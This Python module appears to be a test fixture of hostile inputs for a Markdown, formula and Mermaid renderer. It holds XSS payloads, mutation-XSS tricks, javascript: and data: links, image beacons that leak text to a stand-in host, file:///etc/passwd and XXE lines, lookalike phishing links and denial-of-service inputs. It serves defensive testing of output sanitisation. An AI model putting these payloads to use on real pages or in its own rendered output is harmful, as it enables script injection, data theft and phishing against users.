"""What a hostile model, user, tool or web page may have us show: name -> text.

Each wants a script to run (`owned()`), a request to leave (to a host that ends in .test), or the page to hang.
"""

BEACON = "https://beacon.test"
MB = 1_000_000


def block(language, text):
    return f"```{language}\n{text}\n```"


def mermaid(text):
    return block("mermaid", text)


HTML = {
    "script": "<script>owned()</script>",
    "script from elsewhere": f'<script src="{BEACON}/x.js"></script>',
    "module": '<script type="module">owned()</script>',
    "script in capitals": "<ScRiPt >owned()</sCrIpT >",
    "nested script": "<scr<script>ipt>owned()</scr</script>ipt>",
    "script with a slash": "<script/x>owned()</script>",
    "script after a null": "<scr\0ipt>owned()</script>",
    "image with an error": "<img src=x onerror=owned()>",
    "image without spaces": '<img/src="x"/onerror="owned()">',
    "image in backticks": "<img src=`x` onerror=`owned()`>",
    "image from elsewhere": f"<img src={BEACON}/html.png>",
    "image set": f'<img srcset="{BEACON}/set.png 1x">',
    "picture": f'<picture><source srcset="{BEACON}/p.png"><img></picture>',
    "video": f'<video poster="{BEACON}/v.png" src="{BEACON}/v.mp4" autoplay onloadstart=owned()></video>',
    "audio": f'<audio src="{BEACON}/a.mp3" autoplay onplay=owned()></audio>',
    "frame": f'<iframe src="{BEACON}/frame"></iframe>',
    "frame of a script": '<iframe src="javascript:owned()"></iframe>',
    "frame of its own source": '<iframe srcdoc="<script>parent.owned()</script>"></iframe>',
    "object": f'<object data="{BEACON}/o"></object>',
    "embed": f'<embed src="{BEACON}/e">',
    "link": f'<link rel="stylesheet" href="{BEACON}/l.css">',
    "prefetch": '<link rel="dns-prefetch" href="//beacon.test"><link rel="preconnect" href="//beacon.test">',
    "preload": f'<link rel="preload" as="image" href="{BEACON}/pre.png">',
    "style import": f'<style>@import "{BEACON}/s.css";</style>',
    "style background": f"<style>body {{ background: url({BEACON}/b.png) }}</style>",
    "style attribute": f'<p style="background: url({BEACON}/a.png)">x</p>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={BEACON}/m">',
    "base": f'<base href="{BEACON}/">[x](relative)',
    "form": f'<form action="{BEACON}/f"><input name=x autofocus onfocus=owned()><button>go</button></form>',
    "button of a form": f'<button form="x" formaction="{BEACON}/b">x</button>',
    "details": "<details open ontoggle=owned()>x</details>",
    "body": "<body onload=owned()>",
    "marquee": "<marquee onstart=owned()>x</marquee>",
    "select": "<select autofocus onfocus=owned()></select>",
    "animation": "<style>@keyframes x{}</style><b style='animation: x' onanimationstart=owned()>x</b>",
    "custom element": "<x-y onclick=owned() is=z>x</x-y>",
    "template": "<template><script>owned()</script></template>",
    "shadow": "<div><template shadowrootmode=open><script>owned()</script></template></div>",
    "comment with a script": "<!--><script>owned()</script>-->",
    "comment that is none": "<!--x--!><img src=x onerror=owned()>-->",
    "CDATA": "<![CDATA[<script>owned()</script>]]>",
    "processing instruction": '<?xml-stylesheet href="javascript:owned()"?>',
    "popover": "<button popovertarget=x>y</button><div popover id=x onbeforetoggle=owned()>z</div>",
    "names of the page": '<a id="page-data">{}</a><form id=location name=body><input name=children></form>',
    "our own buttons": '<button data-block-action="copy-code" data-copy="message">x</button>',
    "our own templates": '<template id="mermaid-template"><script>owned()</script></template>',
}
SVG = {
    "svg": "<svg onload=owned()></svg>",
    "svg script": "<svg><script>owned()</script></svg>",
    "svg link": '<svg><a xlink:href="javascript:owned()"><text y=9>x</text></a></svg>',
    "svg use": f'<svg><use href="{BEACON}/u.svg#x"/></svg>',
    "svg image": f'<svg><image href="{BEACON}/i.png"/></svg>',
    "svg animation": '<svg><a><animate attributeName=href values="javascript:owned()"/><text y=9>x</text></a></svg>',
    "svg set": "<svg><set onbegin=owned() attributeName=x to=y></svg>",
    "svg foreign object": "<svg><foreignObject><img src=x onerror=owned()></foreignObject></svg>",
    "svg style": f"<svg><style>@import '{BEACON}/svg.css'</style></svg>",
    "svg title": "<svg></p><style><a id='</style><img src=1 onerror=owned()>'>",
    "svg data": "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='owned()'/>)",
}
MUTATIONS = {
    "glyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=owned()&gt;'>",
    "namespace": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=owned()></style></math>",
    "form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=owned()>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "textarea": "<textarea><img title='</textarea><img src=x onerror=owned()>'></textarea>",
    "select in option": "<select><option><style></option></select><img src=x onerror=owned()></style>",
    "title attribute": '<p title="</p><img src=x onerror=owned()>">x</p>',
    "backticks in attribute": '<img alt="``onerror=owned()">',
    "xmp": "<xmp><p title='</xmp><img src=x onerror=owned()>'></xmp>",
    "plaintext": "<plaintext><script>owned()</script>",
    "table and script": "<table><td><script>owned()</td></table></script>",
    "deep spans": "<div>" * 600 + "<math><mi><table><mglyph><style><!--</style><img src=x onerror=owned()>",
}
ADDRESSES = {
    "javascript": "[x](javascript:owned())",
    "javascript in capitals": "[x](JaVaScRiPt:owned())",
    "javascript spelled": "[x](&#106;&#97;vascript:owned())",
    "javascript named": "[x](javascript&colon;owned())",
    "javascript with a tab": "[x](java&Tab;script:owned())",
    "javascript with a line": "[x](java&#10;script:owned())",
    "javascript after a control": "[x](\x01javascript:owned())",
    "javascript in angles": "<javascript:owned()>",
    "javascript in angles of a link": "[x](<javascript:owned()>)",
    "javascript by reference": "[x][r]\n\n[r]: javascript:owned()",
    "javascript after two slashes": "[x](//javascript:owned())",
    "vbscript": "[x](vbscript:owned())",
    "data": "[x](data:text/html,<script>owned()</script>)",
    "data in base64": "[x](data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+)",
    "blob": "[x](blob:https://beacon.test/1)",
    "file": "[x](file:///etc/passwd)",
    "view-source": "[x](view-source:javascript:owned())",
    "filesystem": "[x](filesystem:https://beacon.test/x)",
    "no host": "[x](https://)",
    "our own pages": "[x](/accounts/logout/) [y](?a=b) [z](#c) [w](//beacon.test/x)",
    "title with quotes": '[x](https://ok.test "\\" onmouseover=owned() x=\\"")',
    "address with quotes": '[x](https://ok.test/"onmouseover="owned())',
    "autolink with quotes": '<https://ok.test/"onmouseover="owned()>',
    "another name": "[https://bank.test/login](https://evil.test/) <https://bank.test@evil.test/> [bank.test](https://bank.test.evil.test)",
    "turned around": "[\u202emoc.knab//:sptth](https://evil.test/)",
    "letters of another alphabet": "[аpple.com](https://xn--pple-43d.com/)",
    "a link in an image in a link": f"[![[x](javascript:owned())]({BEACON}/l.png)](javascript:owned())",
}
IMAGES = {
    "image": f"![x]({BEACON}/i.png)",
    "image without scheme": "![x](//beacon.test/i.png)",
    "image by reference": f"![x][i]\n\n[i]: {BEACON}/r.png",
    "image with a size": f"![x]({BEACON}/s.png =100x100)",
    "image in a cell": f"| a |\n|---|\n| ![x]({BEACON}/t.png) |",
    "image in a link": f"[![x]({BEACON}/l.png)](https://ok.test)",
    "image in a heading": f"# ![x]({BEACON}/h.png)",
    "image of a script": "![x](javascript:owned())",
    "image of data": "![x](data:text/html,<script>owned()</script>)",
    "image with a handler": f'!["onerror=owned() x="]({BEACON}/o.png)',
    "image with what was said": f"![x]({BEACON}/?q=secret%20words)",
    "image in a footnote": f"x[^1]\n\n[^1]: ![x]({BEACON}/n.png)",
    "image in a list": f"- [ ] ![x]({BEACON}/li.png)\n  - ![y]({BEACON}/li2.png)",
    "image of a file": "![x](file:///etc/passwd) ![y](\\\\\\\\beacon.test\\\\x.png)",
}
CODE = {
    "info string": '```html" onmouseover="owned()\n<script>owned()</script>\n```',
    "tag as language": '```"><img/src=x/onerror=owned()>\n1\n```',
    "language of the prototype": block("__proto__", "x") + "\n\n" + block("constructor", "y"),
    "code that closes code": "```js\n</code></pre><script>owned()</script>\n```",
    "code of HTML": block("html", "<img src=x onerror=owned()><script>owned()</script>"),
    "code of XML": block("xml", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x onload="owned()">&y;</x>'),
    "code in Markdown in code": block("markdown", "# x\n\n~~~html\n<script>owned()</script>\n~~~"),
    "inline code": "`<img src=x onerror=owned()>` ``<script>owned()</script>``",
    "turned code": block("js", "if (isAdmin\u202e \u2066// check\u2069 \u2066) {\u202c"),
}
FORMULAS = {
    "formula of HTML": "$$<img src=x onerror=owned()>$$ and $<script>owned()</script>$",
    "formula with a link": "$\\href{javascript:owned()}{x}$",
    "formula with an address": f"$\\url{{{BEACON}/u}}$",
    "formula with a picture": f"$$\\includegraphics{{{BEACON}/g.png}}$$",
    "formula with a style": f"$\\htmlStyle{{background:url({BEACON}/st.png)}}{{x}}$",
    "formula with a class": "$\\htmlClass{code}{x} \\htmlId{page-data}{x} \\htmlData{do=wrap}{x}$",
    "formula over the page": "$\\rule{9999em}{9999em}$ and $\\kern-9999em\\raise9999em{x}$",
    "formula in a colour": f'$\\color{{red;background:url({BEACON}/c.png)}}x$ $\\textcolor{{"onload=owned()}}{{x}}$',
    "formula without end": "$$\\def\\x{\\x\\x}\\x$$",
    "formula that doubles": "$$\\def\\a{"
    + "x" * 10
    + "}"
    + "".join(f"\\def\\{after}{{{before * 8}}}" for before, after in (("\\a", "b"), ("\\b", "c"), ("\\c", "d")))
    + "\\d\\d$$",
    "formula of many braces": "$" + "{" * 3_900 + "$",
    "formula of many fractions": "$" + "\\frac{1}{" * 400 + "x" + "}" * 400 + "$",
    "formula as large as a book": "$$" + "x^{y}+" * 50_000 + "z$$",
    "many formulas": " ".join(f"$x_{{{n}}}$" for n in range(600)),
    "dollars": "$" * 20_000,
    "half formulas": "$x " * 8_000,
}
DIAGRAMS = {
    "diagram of HTML": mermaid('flowchart LR\n a["<img src=x onerror=owned()>"] --> b["<script>owned()</script>"]'),
    "diagram with a click": mermaid('flowchart LR\n a --> b\n click a "javascript:owned()"\n click b call owned()'),
    "diagram with a link": mermaid(f'flowchart LR\n a --> b\n click a href "{BEACON}/d" _self'),
    "diagram with settings": mermaid(
        '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\n'
        'flowchart LR\n a["<img src=x onerror=parent.owned()>"]'
    ),
    "diagram with styles": mermaid(
        f'%%{{init: {{"themeCSS": "*{{background:url({BEACON}/css.png)}} @import \'{BEACON}/x.css\'"}}}}%%\n'
        "flowchart LR\n a-->b"
    ),
    "diagram with a front matter": mermaid(
        f'---\nconfig:\n  securityLevel: loose\n  fontFamily: "x;}}*{{background:url({BEACON}/ff.png)}}"\n---\n'
        "flowchart LR\n a-->b"
    ),
    "diagram with a class": mermaid(
        f"flowchart LR\n classDef x fill:url({BEACON}/cd.png)\n a:::x --> b\n style b fill:url({BEACON}/st.png)"
    ),
    "diagram with a picture": mermaid(
        f'flowchart LR\n a@{{ img: "{BEACON}/img.png", label: "x" }}\n b@{{ icon: "fa:window" }}'
    ),
    "diagram with a formula": mermaid('flowchart LR\n a["$$\\href{javascript:owned()}{x}$$"]'),
    "sequence of HTML": mermaid(
        "sequenceDiagram\n participant A as <img src=x onerror=owned()>\n A->>A: <svg onload=owned()>"
    ),
    "class of HTML": mermaid('classDiagram\n class A["<script>owned()</script>"]\n link A "javascript:owned()" "x"'),
    "state of HTML": mermaid('stateDiagram-v2\n state "<img src=x onerror=owned()>" as a\n [*] --> a'),
    "gantt with a link": mermaid(
        'gantt\n section <b>x</b>\n a :a1, 2024-01-01, 3d\n click a1 href "javascript:owned()"'
    ),
    "mind map of HTML": mermaid("mindmap\n root((<img src=x onerror=owned()>))\n  ::icon(fa fa-book)\n  a"),
    "diagram that is none": mermaid("this is no diagram <script>owned()</script>"),
    "diagram of many edges": mermaid("flowchart LR\n" + "\n".join(f" a{n} --> a{n * 7 % 399}" for n in range(399))),
    "diagram as large as a book": mermaid("flowchart LR\n" + " a --> b\n" * 40_000),
    "diagram of the prototype": mermaid(
        '%%{init: {"__proto__": {"x": 1}, "constructor": {"prototype": {"x": 1}}}}%%\nflowchart LR\n a-->b'
    ),
}
SIGNS = {
    "direction overrides": "\u202eowned\u202c \u2066\u202e[x](https://evil.test)\u2069 \u200f\u200e\u061c",
    "overrides left open": "\u202e" * 5_000 + "x",
    "marks without end": "Z" + "\u0300\u0301\u0489" * 20_000,
    "invisible letters": "a\u200bb\u2060c\ufeffd\u00ade" * 3_000,
    "line separators": "a\u2028b\u2029c\x0bd\x0ce\x85f" * 2_000,
    "lonely halves": "x\ufffdy",
    "emoji joined for ever": "👩\u200d" * 10_000,
    "the longest letter": "﷽" * 8_000,
}
SIZES = {
    "one line of a megabyte": "x" * MB,
    "one line of words": "word " * (MB // 5),
    "one line of code": block("js", "x=1;" * (MB // 4)),
    "many lines of code": block("python", "x = (1, 'two')\n" * 20_000),
    "one cell of a megabyte": f"| a |\n|---|\n| {'x' * MB} |",
    "many lines": "x\n" * 60_000,
    "many blocks": "x\n\n" * 15_000,
    "a wide table": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n|" + "b|" * 2_000,
    "a long table": "| a | b |\n|---|---|\n" + "| c | d |\n" * 10_000,
    "a long list": "- x\n" * 15_000,
    "ten thousand quotes": ">" * 10_000 + " x",
    "ten thousand quotes with spaces": "> " * 10_000 + "x",
    "a staircase of quotes": "\n".join(">" * n + " x" for n in range(1, 400)),
    "a staircase of lists": "\n".join("  " * n + "- x" for n in range(500)),
    "lists in one line": "- " * 10_000 + "x",
    "numbers in one line": "1. " * 10_000 + "x",
    "quotes and lists": "> - " * 5_000 + "x",
    "stars": "*" * 100_000,
    "stars and letters": "*a " * 30_000,
    "stars between letters": "a*" * 30_000,
    "strong and soft": "**a *b " * 15_000,
    "underscores": "_a" * 40_000,
    "tildes": "~~a" * 30_000,
    "brackets": "[" * 100_000,
    "brackets and back": "[" * 30_000 + "]" * 30_000,
    "half links": "[a](" * 25_000,
    "half links in angles": "[a](<b" * 15_000,
    "half images": "![" * 40_000,
    "references": "[a][b]" * 15_000,
    "many definitions": "\n".join(f"[a{n}]: https://x.test/{n}" for n in range(5_000)) + "\n\n" + "[a1] " * 500,
    "definitions without end": "[a]: <" * 15_000,
    "backticks": "`" * 100_000,
    "backticks of all lengths": " ".join("`" * n + "a" for n in range(1, 400)),
    "angles": "<" * 100_000,
    "half tags": "<a " * 30_000,
    "tags with attributes": "<a" + " b=c" * 25_000,
    "half comments": "<!--" * 25_000,
    "ampersands": "&" * 100_000,
    "entities": "&lt;" * 25_000,
    "backslashes": "\\" * 100_000,
    "escapes of brackets": "\\[" * 40_000,
    "hashes": "#" * 100_000,
    "a heading of spaces": "# " + " " * 100_000 + "x",
    "spaces": "a" + " " * 100_000 + "b",
    "tabs": "\t" * 50_000 + "x",
    "lines of spaces": "a\n" + (" " * 200 + "\n") * 500,
    "underlines": "a\n" + "=" * 100_000,
    "rules": "- " * 50_000,
    "pipes": "|" * 50_000,
    "rows of pipes": "|a\n" * 10_000,
    "dashes and pipes": "a|b\n" + "-|" * 20_000,
    "addresses": "https://x.test/" * 10_000,
    "an address with dots": "www." + "." * 50_000 + "a",
    "an address with brackets": "https://x.test/" + "(" * 30_000,
    "letters and at": "a@" * 30_000,
    "at and dots": "a@b." * 20_000,
    "footnotes": "".join(f"[^{n}]" for n in range(3_000)) + "\n\n" + "\n".join(f"[^{n}]: x" for n in range(3_000)),
    "footnotes in footnotes": "\n".join(f"[^{n}]: [^{n + 1}]" for n in range(2_000)),
    "a footnote of spaces": "[^1]: x\n" + " " * 100_000 + "\n" + " " * 100_000 + "x",
    "lines of dollars": "a\n$$\n" * 8_000,
    "brackets and backticks": " ".join(f"[{'`' * (1 + n % 40)}a" for n in range(450)),
    "Japanese strong": "**「あ」" * 12_000,
    "fences": "```\n" * 15_000,
    "fences of all lengths": "\n".join("`" * n for n in range(3, 400)),
    "tables in quotes": "> | a |\n> |---|\n" * 4_000,
    "braces": block("json", "{" * 50_000),
    "strings without end": block("js", '"' + "\\" * 20_000),
    "comments in comments": block("css", "/*" * 20_000),
    "tags in code": block("html", "<a" * 20_000),
    "a regular expression": block("js", "/" + "(a+)+" * 3_000 + "/"),
}
HOSTILE = {
    f"{kind}: {name}": text
    for kind, inputs in {
        "html": HTML,
        "svg": SVG,
        "mutation": MUTATIONS,
        "address": ADDRESSES,
        "image": IMAGES,
        "code": CODE,
        "formula": FORMULAS,
        "diagram": DIAGRAMS,
        "sign": SIGNS,
        "size": SIZES,
    }.items()
    for name, text in inputs.items()
}
